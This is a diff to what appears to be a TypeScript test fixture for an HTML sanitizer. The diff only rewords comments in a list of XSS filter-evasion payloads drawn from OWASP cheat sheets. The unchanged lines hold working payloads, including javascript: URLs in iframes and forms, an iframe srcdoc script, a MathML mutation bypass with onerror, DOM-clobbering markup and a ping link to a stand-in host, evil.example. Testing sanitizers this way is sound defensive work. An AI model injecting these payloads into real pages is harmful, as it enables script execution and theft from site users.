@@ -1,5 +1,5 @@
 /**
- * Known ways to bring active content past a sanitizer, after the OWASP XSS filter evasion cheat sheet, the
+ * Known ways to get active content past a sanitizer, after the OWASP XSS filter evasion cheat sheet, the
  * HTML5 security cheat sheet and the published mutation bypasses. In each, `alert` is what an attacker runs.
  */
 export const ANSWER_VECTORS: readonly (readonly [name: string, answer: string])[] = [
@@ -84,7 +84,7 @@ export const ANSWER_VECTORS: readonly (readonly [name: string, answer: string])[
   ['ping', '<a href="/tools" ping="https://evil.example">text</a>'],
   ['background of a table', '<table background="javascript:alert(1)"><tr><td>text</td></tr></table>'],
 
-  // Elements that load, send or lead away
+  // Elements that load, send or navigate
   ['frame', '<iframe src="javascript:alert(1)"></iframe>'],
   ['frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   ['frame with an escaped document', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
@@ -145,7 +145,7 @@ export const ANSWER_VECTORS: readonly (readonly [name: string, answer: string])[
     '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
   ],
 
-  // Text that a second parser reads otherwise
+  // Text that a second parser reads differently
   [
     'mutation by MathML and style',
     '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
@@ -182,7 +182,7 @@ export const ANSWER_VECTORS: readonly (readonly [name: string, answer: string])[
     '<form id=x></form><button form=x formaction=javascript:alert(1)>text</button>',
   ],
 
-  // Elements whose removal leaves what no parser would make
+  // Elements whose removal leaves what no parser would produce
   ['paragraph in a paragraph', '<p>a<marquee><p>b</p></marquee></p>'],
   ['link in a link', '<a href="/a">a<marquee><a href="/b">b</a></marquee></a>'],
   ['heading in a heading', '<h3>a<marquee><h3>b</h3></marquee></h3>'],
@@ -203,7 +203,7 @@ export const ANSWER_VECTORS: readonly (readonly [name: string, answer: string])[
   ['entities that make a tag', '&lt;script&gt;alert(1)&lt;/script&gt;'],
   ['doubly escaped entities', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'],
 
-  // Names that take the place of the page's own
+  // Names that replace the page's own
   ['id of the page', '<h3 id="main">Title</h3>'],
   ['id of a property', '<p id="getElementById">text</p><a name="cookie">text</a>'],
   ['form that shadows', '<form name="body"><input id="children"></form>'],
